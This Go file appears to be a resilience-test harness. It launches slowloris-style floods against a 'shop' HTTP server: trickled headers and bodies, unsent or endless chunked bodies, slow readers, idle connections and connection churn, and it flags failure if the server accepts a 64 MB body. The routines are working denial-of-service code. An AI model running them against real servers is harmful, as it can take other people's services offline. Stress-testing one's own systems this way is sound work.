package attack

import (
	"context"
	"io"
	"net"
	"strings"
	"sync"
	"time"
)

const (
	formHead = "POST /interactions HTTP/1.1\r\nHost: shop\r\nContent-Type: application/x-www-form-urlencoded\r\n"
	trickle  = 500 * time.Millisecond // between two bytes of a slow sender
)

// trickleInto sends text, and then a byte at a time until the other side has had enough.
func trickleInto(ctx context.Context, c net.Conn, text string) {
	if _, err := io.WriteString(c, text); err != nil {
		return
	}
	ticker := time.NewTicker(trickle)
	defer ticker.Stop()
	for {
		select {
		case <-ticker.C:
		case <-ctx.Done():
			return
		}
		if _, err := io.WriteString(c, "a"); err != nil {
			return
		}
	}
}

func slowHeaders(ctx context.Context, r *raid) error {
	r.crowd(ctx, r.n(4000), r.shop, func(ctx context.Context, c net.Conn) {
		trickleInto(ctx, c, "GET / HTTP/1.1\r\nHost: shop\r\nX-Slow: ")
	})
	return nil
}

func slowBodies(ctx context.Context, r *raid) error {
	body := strings.Repeat("a", 7900)
	r.crowd(ctx, r.n(4000), r.shop, func(ctx context.Context, c net.Conn) {
		trickleInto(ctx, c, formHead+"Content-Length: 8000\r\n\r\n"+body)
	})
	return nil
}

// emptyBodies announces bodies of which nothing comes.
func emptyBodies(ctx context.Context, r *raid) error {
	r.crowd(ctx, r.n(4000), r.shop, func(_ context.Context, c net.Conn) {
		if _, err := io.WriteString(c, formHead+"Content-Length: 8000\r\n\r\n"); err == nil {
			drain(c)
		}
	})
	return nil
}

// endlessBodies sends as much as the shop takes.
func endlessBodies(ctx context.Context, r *raid) error {
	chunk := "8000\r\n" + strings.Repeat("a", 0x8000) + "\r\n"
	heads := []string{
		formHead + "Transfer-Encoding: chunked\r\n\r\n",
		formHead + "Content-Length: 1000000000000\r\n\r\n",
		"POST /books HTTP/1.1\r\nHost: shop\r\nTransfer-Encoding: chunked\r\n\r\n",
		"GET / HTTP/1.1\r\nHost: shop\r\nTransfer-Encoding: chunked\r\n\r\n",
	}
	var turn sync.Mutex
	next := 0
	r.crowd(ctx, r.n(400), r.shop, func(_ context.Context, c net.Conn) {
		turn.Lock()
		text := heads[next%len(heads)]
		next++
		turn.Unlock()
		go drain(c)
		for sent := 0; sent < 64<<20; sent += len(chunk) {
			if _, err := io.WriteString(c, text); err != nil {
				return
			}
			text = chunk
			r.count("kB taken", len(chunk)>>10)
		}
		r.fail("a body of 64 MB was taken")
	})
	return nil
}

// slowReaders ask for the same thing often, and read nothing.
func slowReaders(connections int, path string, often int) func(context.Context, *raid) error {
	return func(ctx context.Context, r *raid) error {
		requests := strings.Repeat("GET "+path+" HTTP/1.1\r\nHost: shop\r\n\r\n", often)
		r.crowd(ctx, r.n(connections), r.shop, func(ctx context.Context, c net.Conn) {
			_ = c.(*net.TCPConn).SetReadBuffer(1 << 10)
			if _, err := io.WriteString(c, requests); err == nil {
				<-ctx.Done()
			}
		})
		return nil
	}
}

func idle(at func(*raid) string, hello string) func(context.Context, *raid) error {
	return func(ctx context.Context, r *raid) error {
		r.crowd(ctx, r.n(10_000), at(r), func(_ context.Context, c net.Conn) {
			if _, err := io.WriteString(c, hello); err == nil {
				drain(c)
			}
		})
		return nil
	}
}

// churn opens connections and cuts them at once.
func churn(at func(*raid) string) func(context.Context, *raid) error {
	return func(ctx context.Context, r *raid) error {
		r.crowd(ctx, r.n(20_000), at(r), func(_ context.Context, c net.Conn) { _ = c.(*net.TCPConn).SetLinger(0) })
		return nil
	}
}
